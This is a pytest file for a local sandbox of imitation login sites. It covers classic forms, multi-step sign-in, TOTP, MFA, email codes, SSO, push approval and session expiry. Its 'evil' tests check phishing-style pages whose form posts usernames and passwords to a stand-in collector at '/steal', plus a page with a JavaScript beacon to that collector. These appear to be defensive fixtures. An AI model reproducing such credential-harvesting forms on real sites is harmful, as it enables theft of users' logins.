"""Fast checks of the sandbox sites over plain HTTP (no browser).

Python's resolver does not resolve ``*.localhost`` names, so the client connects to 127.0.0.1 and sends
the ``Host`` header itself, keeping one cookie jar per host like a browser would.
"""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlencode, urlsplit

import pytest

from tests.sites import accounts
from tests.sites.server import SandboxServer

WRONG_PASSWORD = "wrong-horse-battery"
LOGOUT_TEXT = re.compile(r"\b(sign ?out|log ?out)\b", re.IGNORECASE)
NOT_TEXT = re.compile(r"<script\b.*?</script>|<style\b.*?</style>|<[^>]*>", re.DOTALL | re.IGNORECASE)


@dataclass
class Reply:
    status: int
    headers: list[tuple[str, str]]
    body: str

    @property
    def location(self) -> str:
        return self.header("Location") or ""

    def header(self, name: str) -> str | None:
        return next((v for k, v in self.headers if k.lower() == name.lower()), None)

    def cookies_set(self) -> list[str]:
        return [v for k, v in self.headers if k.lower() == "set-cookie"]

    def json(self) -> dict:
        return json.loads(self.body)


@dataclass
class Client:
    """A cookie-keeping HTTP client for the sandbox: each host has its own jar, like host-only cookies."""

    port: int
    jars: dict[str, dict[str, str]] = field(default_factory=dict)
    # Requests made inside a login's own navigation (Sec-Fetch-Site: same-origin), as a browser marks
    # them; the no-session variant keeps a session through those and ends it on a page opened afresh.
    within_login: bool = False

    def request(
        self,
        method: str,
        host: str,
        path: str,
        *,
        form: dict | None = None,
        body: str | None = None,
        headers: dict | None = None,
    ) -> Reply:
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
        jar = self.jars.setdefault(host, {})
        sent = {"Host": f"{host}:{self.port}", **({"Sec-Fetch-Site": "same-origin"} if self.within_login else {}),
                **(headers or {})}
        if jar:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in jar.items())
        if form is not None:
            body = urlencode(form)
            sent["Content-Type"] = "application/x-www-form-urlencoded"
        try:
            conn.request(method, path, body=body, headers=sent)
            resp = conn.getresponse()
            reply = Reply(resp.status, resp.getheaders(), resp.read().decode())
        finally:
            conn.close()
        for cookie in reply.cookies_set():
            name, _, rest = cookie.partition("=")
            value = rest.split(";", 1)[0]
            if "max-age=0" in cookie.lower():
                jar.pop(name, None)
            else:
                jar[name] = value
        return reply

    def get(self, host: str, path: str, **kw) -> Reply:
        return self.request("GET", host, path, **kw)

    def post(self, host: str, path: str, form: dict | None = None, **kw) -> Reply:
        return self.request("POST", host, path, form=form if form is not None else {}, **kw)

    def follow(self, host: str, reply: Reply) -> Reply:
        """The page a redirect leads to (same host), or the reply itself."""
        for _ in range(5):
            if reply.status not in (301, 302, 303, 307, 308):
                break
            reply = self.get(host, path_of(reply.location))
        return reply

    def fresh_get(self, host: str, path: str) -> Reply:
        """A page opened afresh (typed, bookmarked, or by a program): Sec-Fetch-Site none."""
        return self.get(host, path, headers={"Sec-Fetch-Site": "none"})

    def whoami(self, host: str) -> str | None:
        return self.get(host, "/_sandbox/whoami").json()["user"]


def path_of(location: str) -> str:
    """``/x`` from either ``/x`` or ``http://host:port/x``."""
    parts = urlsplit(location)
    return parts.path + (f"?{parts.query}" if parts.query else "")


@pytest.fixture(scope="module")
def sandbox() -> Iterator[SandboxServer]:
    server = SandboxServer(port=0).start()
    yield server
    server.stop()


@pytest.fixture
def client(sandbox: SandboxServer) -> Client:
    return Client(sandbox.port)


def visible_text(markup: str) -> str:
    """Roughly what a reader sees: no scripts, styles or tags (server-rendered text only)."""
    return NOT_TEXT.sub(" ", markup)


def assert_logged_in_page(reply: Reply) -> None:
    assert reply.status == 200
    assert 'data-sandbox-state="logged-in"' in reply.body
    text = visible_text(reply.body)
    assert LOGOUT_TEXT.search(text)
    assert "alice" in text.lower()


def assert_logged_out_page(reply: Reply) -> None:
    assert 'data-sandbox-state="logged-in"' not in reply.body
    text = visible_text(reply.body)
    assert not LOGOUT_TEXT.search(text), LOGOUT_TEXT.search(text)


# --- accounts -------------------------------------------------------------------------------------


def test_totp_matches_rfc6238_vector() -> None:
    # RFC 6238 appendix B, SHA1, T = 59 s: 94287082 → the last 6 digits.
    secret = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"  # base32 of "12345678901234567890"
    assert accounts.totp(secret, at=59) == "287082"
    assert accounts.totp(secret, at=1111111109) == "081804"


def test_totp_accepts_current_and_previous_window_only() -> None:
    now = 1_700_000_000
    assert accounts.verify_totp(accounts.totp(at=now), at=now)
    assert accounts.verify_totp(accounts.totp(at=now - 30), at=now)
    assert not accounts.verify_totp(accounts.totp(at=now - 60), at=now)
    assert not accounts.verify_totp(accounts.totp(at=now + 30), at=now)


# --- server ---------------------------------------------------------------------------------------


def test_unknown_host_is_404(client: Client) -> None:
    assert client.get("nowhere.localhost", "/").status == 404


def test_url_and_controls(sandbox: SandboxServer, client: Client) -> None:
    assert sandbox.url("classic.localhost", "/login") == f"http://classic.localhost:{sandbox.port}/login"
    assert client.whoami("classic.localhost") is None
    assert client.get("classic.localhost", "/_sandbox/nope").status == 404


# --- classic --------------------------------------------------------------------------------------

CSRF = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')


def classic_form(client: Client, **fields: str) -> dict[str, str]:
    page = client.get("classic.localhost", "/login")
    assert page.status == 200
    assert_logged_out_page(page)
    token = CSRF.search(page.body).group(1)
    return {
        "csrfmiddlewaretoken": token,
        "username": accounts.USERNAME,
        "password": accounts.PASSWORD,
        **fields,
    }


def test_classic_requires_the_test_cookie(client: Client) -> None:
    form = classic_form(client)
    del client.jars["classic.localhost"]["testcookie"]
    reply = client.post("classic.localhost", "/login", form)
    assert "Please enable cookies" in reply.body
    assert client.whoami("classic.localhost") is None


def test_classic_rejects_a_missing_or_wrong_csrf_token(client: Client) -> None:
    form = classic_form(client)
    reply = client.post("classic.localhost", "/login", {**form, "csrfmiddlewaretoken": "forged"})
    assert reply.status == 403 and "CSRF verification failed" in reply.body
    del form["csrfmiddlewaretoken"]
    assert "CSRF verification failed" in client.post("classic.localhost", "/login", form).body
    assert client.whoami("classic.localhost") is None


def test_classic_wrong_then_right_password(sandbox: SandboxServer, client: Client) -> None:
    before = len(sandbox.login_attempts("classic.localhost"))
    reply = client.post("classic.localhost", "/login", classic_form(client, password=WRONG_PASSWORD))
    assert reply.status == 200
    assert 'role="alert">Incorrect username or password.' in reply.body
    assert client.whoami("classic.localhost") is None

    reply = client.post("classic.localhost", "/login", classic_form(client))
    assert reply.status == 302 and reply.location == "/account"
    session_cookie = next(c for c in reply.cookies_set() if c.startswith("ledgerly_session="))
    assert "HttpOnly" in session_cookie and "Max-Age" not in session_cookie and "Domain" not in session_cookie
    assert client.whoami("classic.localhost") == "alice"
    assert_logged_in_page(client.get("classic.localhost", "/account"))
    assert client.get("classic.localhost", "/login").location == "/account"
    attempts = client.get("classic.localhost", "/_sandbox/attempts").json()["attempts"][before:]
    assert attempts == [{"username": "alice", "ok": False}, {"username": "alice", "ok": True}]


def test_classic_remember_me_makes_a_persistent_cookie(client: Client) -> None:
    reply = client.post("classic.localhost", "/login", classic_form(client, remember_me="on"))
    session_cookie = next(c for c in reply.cookies_set() if c.startswith("ledgerly_session="))
    assert "Max-Age=2592000" in session_cookie


# --- steps ----------------------------------------------------------------------------------------


def test_steps_identifier_first(client: Client) -> None:
    page = client.get("steps.localhost", "/signin")
    assert (
        'name="identifier"' in page.body
        and ">Next</button>" in page.body
        and 'type="password"' not in page.body
    )
    assert_logged_out_page(page)

    reply = client.post("steps.localhost", "/signin", {"identifier": "bob@example.com"})
    assert "We couldn&#x27;t find an account with that email." in reply.body

    reply = client.post("steps.localhost", "/signin", {"identifier": accounts.EMAIL})
    assert reply.status == 302 and reply.location == "/signin/password"
    page = client.get("steps.localhost", "/signin/password")
    assert "Enter your password" in page.body and accounts.EMAIL in page.body and 'name="passwd"' in page.body

    reply = client.post("steps.localhost", "/signin/password", {"passwd": WRONG_PASSWORD})
    assert "Wrong password" in reply.body
    reply = client.post("steps.localhost", "/signin/password", {"passwd": accounts.PASSWORD})
    assert reply.location == "/dashboard"
    assert client.whoami("steps.localhost") == "alice"
    assert_logged_in_page(client.get("steps.localhost", "/dashboard"))


# --- totp -----------------------------------------------------------------------------------------


def test_totp_second_step(client: Client) -> None:
    login = {"session[email]": accounts.EMAIL, "session[password]": accounts.PASSWORD}
    reply = client.post("totp.localhost", "/session", login)
    assert reply.location == "/two-factor"
    page = client.get("totp.localhost", "/two-factor")
    assert "Two-step verification" in page.body and 'autocomplete="one-time-code"' in page.body
    assert client.whoami("totp.localhost") is None

    assert "Invalid code" in client.post("totp.localhost", "/two-factor", {"otp": "000000"}).body
    reply = client.post("totp.localhost", "/two-factor", {"otp": accounts.totp()})
    assert reply.location == "/"
    assert client.whoami("totp.localhost") == "alice"
    assert_logged_in_page(client.get("totp.localhost", "/"))


# --- mfa ------------------------------------------------------------------------------------------


def test_mfa_email_path(sandbox: SandboxServer, client: Client) -> None:
    reply = client.post("mfa.localhost", "/login", {"email": accounts.EMAIL, "password": accounts.PASSWORD})
    assert reply.location == "/verify"
    page = client.get("mfa.localhost", "/verify")
    for option in (
        "How do you want to verify?",
        "Authenticator app",
        "Text message to •••• 42",
        "Email to a•••@example.com",
    ):
        assert option in page.body

    reply = client.post("mfa.localhost", "/verify", {"method": "email"})
    assert reply.location == "/verify/code"
    assert "We sent a code to a•••@example.com" in client.get("mfa.localhost", "/verify/code").body
    code = sandbox.sent_codes("mfa.localhost")[-1]
    assert client.get("mfa.localhost", "/_sandbox/codes").json()["codes"][-1] == code
    assert re.fullmatch(r"\d{6}", code)

    wrong = "000000" if code != "000000" else "111111"
    assert "didn&#x27;t work" in client.post("mfa.localhost", "/verify/code", {"code": wrong}).body
    assert client.post("mfa.localhost", "/verify/code", {"code": code}).location == "/"
    assert client.whoami("mfa.localhost") == "alice"
    assert_logged_in_page(client.get("mfa.localhost", "/"))


def test_mfa_authenticator_path(client: Client) -> None:
    client.post("mfa.localhost", "/login", {"email": accounts.EMAIL, "password": accounts.PASSWORD})
    assert client.post("mfa.localhost", "/verify", {"method": "app"}).location == "/verify/app"
    assert client.post("mfa.localhost", "/verify/app", {"otc": accounts.totp()}).location == "/"
    assert client.whoami("mfa.localhost") == "alice"


# --- emailcode ------------------------------------------------------------------------------------


def test_emailcode_only_the_newest_code_works(sandbox: SandboxServer, client: Client) -> None:
    login = {"user[email]": accounts.EMAIL, "user[password]": accounts.PASSWORD}
    assert client.post("emailcode.localhost", "/users/sign_in", login).location == "/users/verify"
    page = client.get("emailcode.localhost", "/users/verify")
    assert page.body.count('maxlength="1"') == 6 and "Resend code" in page.body
    first = sandbox.sent_codes("emailcode.localhost")[-1]
    client.get("emailcode.localhost", "/users/verify/resend")
    second = sandbox.sent_codes("emailcode.localhost")[-1]
    if first != second:
        assert "incorrect" in client.post("emailcode.localhost", "/users/verify", {"code": first}).body
    assert client.post("emailcode.localhost", "/users/verify", {"code": second}).location == "/"
    assert client.whoami("emailcode.localhost") == "alice"


# --- picker ---------------------------------------------------------------------------------------


def test_picker_choose_a_workspace(client: Client) -> None:
    reply = client.post(
        "picker.localhost", "/login", {"username": accounts.USERNAME, "pass": accounts.PASSWORD}
    )
    assert reply.location == "/workspaces"
    page = client.get("picker.localhost", "/workspaces")
    assert "Choose a workspace" in page.body
    for name in ("Acme Corp", "Globex", "Initech"):
        assert name in page.body
    assert client.whoami("picker.localhost") is None  # not signed in until a workspace is chosen

    assert client.get("picker.localhost", "/workspaces/globex").location == "/w/globex"
    page = client.get("picker.localhost", "/w/globex")
    assert_logged_in_page(page)
    assert "Globex" in page.body
    assert client.get("picker.localhost", "/_sandbox/whoami").json() == {
        "user": "alice",
        "workspace": "globex",
    }


# --- staysignedin ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("choice", "persistent"), [("yes", True), ("no", False)])
def test_stay_signed_in(client: Client, choice: str, persistent: bool) -> None:
    login = {"loginfmt": accounts.EMAIL, "passwd": accounts.PASSWORD}
    assert client.post("staysignedin.localhost", "/login", login).location == "/kmsi"
    page = client.get("staysignedin.localhost", "/kmsi")
    assert (
        "Stay signed in?" in page.body
        and "Do this to reduce the number of times you are asked to sign in." in page.body
    )
    reply = client.post("staysignedin.localhost", "/kmsi", {"stay": choice})
    cookie = next(c for c in reply.cookies_set() if c.startswith("ESTSAUTH="))
    assert ("Max-Age=" in cookie) is persistent
    assert client.whoami("staysignedin.localhost") == "alice"
    assert_logged_in_page(client.get("staysignedin.localhost", "/"))


# --- push -----------------------------------------------------------------------------------------


def test_push_waits_for_approval(client: Client) -> None:
    assert (
        client.post("push.localhost", "/login", {"uid": accounts.USERNAME, "pwd": accounts.PASSWORD}).location
        == "/push"
    )
    page = client.get("push.localhost", "/push")
    assert "Check your phone" in page.body and "<input" not in page.body
    assert client.get("push.localhost", "/push/status").json() == {"status": "pending"}
    assert client.get("push.localhost", "/push/complete").location == "/push"

    assert client.post("push.localhost", "/_sandbox/approve").json()["approved"] >= 1
    assert client.get("push.localhost", "/push/status").json() == {"status": "approved"}
    assert client.get("push.localhost", "/push/complete").location == "/dashboard"
    assert client.whoami("push.localhost") == "alice"


# --- evil -----------------------------------------------------------------------------------------


def test_evil_form_posts_to_the_collector(sandbox: SandboxServer, client: Client) -> None:
    page = client.get("evil.localhost", "/login")
    action = re.search(r'<form method="post" action="([^"]+)"', page.body).group(1)
    assert action == sandbox.url("collector.localhost", "/steal")
    client.post("collector.localhost", path_of(action), {"username": "alice", "password": "hunter2"})
    received = sandbox.received("collector.localhost")
    assert received[-1] == {
        "method": "POST",
        "path": "/steal",
        "query": {},
        "body": "username=alice&password=hunter2",
    }
    over_http = client.get("evil.localhost", "/_sandbox/received")  # any host answers for itself
    assert over_http.json()["requests"][-1]["path"] == "/login"


def test_evil_js_page_names_the_beacon(sandbox: SandboxServer, client: Client) -> None:
    page = client.get("evil-js.localhost", "/login")
    assert sandbox.url("collector.localhost", "") in page.body and '"/beacon"' in page.body
    reply = client.post(
        "evil-js.localhost", "/login", {"email": accounts.EMAIL, "password": accounts.PASSWORD}
    )
    assert reply.location == "/orders"


# --- the rest: a spot check each ------------------------------------------------------------------


def test_json_logins(client: Client) -> None:
    creds = json.dumps({"email": accounts.EMAIL, "password": accounts.PASSWORD})
    headers = {"Content-Type": "application/json"}
    reply = client.request("POST", "spa.localhost", "/api/login", body=creds, headers=headers)
    token = reply.json()["token"]
    assert client.get(
        "spa.localhost", "/_sandbox/whoami", headers={"Authorization": f"Bearer {token}"}
    ).json() == {"user": "alice"}
    assert client.whoami("spa.localhost") is None

    assert client.get("modal.localhost", "/login").status == 404
    assert client.request("POST", "modal.localhost", "/session", body=creds, headers=headers).status == 200
    assert client.whoami("modal.localhost") == "alice"

    creds = json.dumps({"username": accounts.USERNAME, "password": WRONG_PASSWORD})
    assert (
        client.request("POST", "shadow.localhost", "/api/session", body=creds, headers=headers).status == 401
    )


def test_iframe_cookie_covers_the_parent_site(client: Client) -> None:
    reply = client.post(
        "auth.iframe.localhost", "/embed", {"user": accounts.USERNAME, "pw": accounts.PASSWORD}
    )
    cookie = next(c for c in reply.cookies_set() if c.startswith("harbor_sid="))
    assert "Domain=iframe.localhost" in cookie
    client.jars["iframe.localhost"] = dict(client.jars["auth.iframe.localhost"])
    assert client.whoami("iframe.localhost") == "alice"


def test_sso_round_trip(client: Client) -> None:
    start = client.get("sso-app.localhost", "/auth/google")
    authorize = start.location
    assert authorize.startswith("http://idp.localhost:") and "client_id=sandbox-app" in authorize
    assert client.get("idp.localhost", path_of(authorize)).location == "/signin/identifier"
    assert (
        client.post("idp.localhost", "/signin/identifier", {"identifier": accounts.EMAIL}).location
        == "/signin/challenge/pwd"
    )
    assert (
        client.post("idp.localhost", "/signin/challenge/pwd", {"Passwd": accounts.PASSWORD}).location
        == "/consent"
    )
    assert "Sandbox App wants to access your Google Account" in client.get("idp.localhost", "/consent").body
    callback = client.post("idp.localhost", "/consent", {"decision": "allow"}).location
    assert callback.startswith("http://sso-app.localhost:") and "code=" in callback
    assert client.get("sso-app.localhost", path_of(callback)).location == "/home"
    assert client.whoami("sso-app.localhost") == "alice"
    assert_logged_in_page(client.get("sso-app.localhost", "/home"))


def test_captcha_never_lets_anyone_in(client: Client) -> None:
    reply = client.post(
        "captcha.localhost", "/login", {"user": accounts.USERNAME, "password": accounts.PASSWORD}
    )
    assert "Please complete the CAPTCHA" in reply.body and 'class="g-recaptcha"' in reply.body
    assert client.whoami("captcha.localhost") is None


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("classic.localhost", "/"),
        ("steps.localhost", "/"),
        ("spa.localhost", "/"),
        ("reveal.localhost", "/login"),
        ("modal.localhost", "/"),
        ("shadow.localhost", "/login"),
        ("iframe.localhost", "/login"),
        ("auth.iframe.localhost", "/embed"),
        ("totp.localhost", "/login"),
        ("mfa.localhost", "/login"),
        ("emailcode.localhost", "/users/sign_in"),
        ("picker.localhost", "/login"),
        ("staysignedin.localhost", "/login"),
        ("sso-app.localhost", "/login"),
        ("idp.localhost", "/signin/identifier"),
        ("captcha.localhost", "/login"),
        ("push.localhost", "/login"),
        ("passkey.localhost", "/login"),
        ("noform.localhost", "/"),
        ("evil.localhost", "/login"),
        ("evil-js.localhost", "/login"),
    ],
)
def test_logged_out_pages_offer_no_logout(client: Client, host: str, path: str) -> None:
    reply = client.get(host, path)
    assert reply.status == 200
    assert_logged_out_page(reply)


def test_passkey_and_noform_have_no_password_field(client: Client) -> None:
    for host, path in [
        ("passkey.localhost", "/login"),
        ("noform.localhost", "/"),
        ("noform.localhost", "/about"),
    ]:
        assert 'type="password"' not in client.get(host, path).body
    assert "Sign in with a passkey" in client.get("passkey.localhost", "/login").body


# --- expire_sessions ------------------------------------------------------------------------------


def test_expire_sessions(sandbox: SandboxServer, client: Client) -> None:
    client.post("classic.localhost", "/login", classic_form(client))
    assert client.whoami("classic.localhost") == "alice"
    client.post("steps.localhost", "/signin", {"identifier": accounts.EMAIL})
    client.post("steps.localhost", "/signin/password", {"passwd": accounts.PASSWORD})
    assert client.whoami("steps.localhost") == "alice"

    assert client.post("classic.localhost", "/_sandbox/expire").json() == {"ok": True}
    assert client.whoami("classic.localhost") is None
    assert client.get("classic.localhost", "/account").location.startswith("/login")
    assert client.whoami("steps.localhost") == "alice"  # other hosts keep their sessions

    sandbox.expire_sessions("steps.localhost")
    assert client.whoami("steps.localhost") is None


# --- the no-session variant (every site) ----------------------------------------------------------


def test_the_no_session_variant_shows_the_signed_in_landing_but_a_page_opened_afresh_is_signed_out(client: Client) -> None:
    client.jars["classic.localhost"] = {"sandbox_variant": "nosession"}
    form = classic_form(client, username=accounts.USERNAME, password=accounts.PASSWORD)
    redirected = client.post("classic.localhost", "/login", form, headers={"Sec-Fetch-Site": "same-origin"})
    assert redirected.status == 302 and redirected.location == "/account"
    # The redirect's landing, still inside the login's own navigation, is signed in…
    assert_logged_in_page(client.get("classic.localhost", "/account", headers={"Sec-Fetch-Site": "same-origin"}))
    # …and the same page opened afresh is not.
    assert_logged_out_page(client.get("classic.localhost", "/account"))
    assert client.whoami("classic.localhost") is None
